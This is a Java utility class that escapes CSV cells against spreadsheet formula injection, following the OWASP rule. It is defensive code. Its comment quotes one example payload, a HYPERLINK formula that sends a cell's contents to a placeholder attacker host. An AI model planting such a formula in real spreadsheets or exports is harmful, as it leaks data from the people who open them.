package org.ossatlas.common;

import java.util.regex.Pattern;

/**
 * A cell of a published CSV made safe to open in a spreadsheet (OWASP's rule against formula
 * injection): text starting with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage
 * return gets a leading {@code '}, so {@code =HYPERLINK("https://evil.example/?"&A1)} in a
 * project's name shows as text instead of running. Numbers ({@code -3}, {@code +1.5e3}) are left
 * alone: they cannot be formulas, and the data stays readable. Every writer of a file the site
 * publishes passes its text cells through {@link #cell}.
 */
public final class SpreadsheetSafe {
  private static final Pattern NUMBER = Pattern.compile("[-+]?\\d+(\\.\\d+)?([eE][-+]?\\d+)?");

  private SpreadsheetSafe() {}

  public static String cell(String value) {
    if (value == null || value.isEmpty()) {
      return value;
    }
    char first = value.charAt(0);
    boolean risky =
        first == '='
            || first == '+'
            || first == '-'
            || first == '@'
            || first == '\t'
            || first == '\r';
    return risky && !NUMBER.matcher(value).matches() ? "'" + value : value;
  }
}
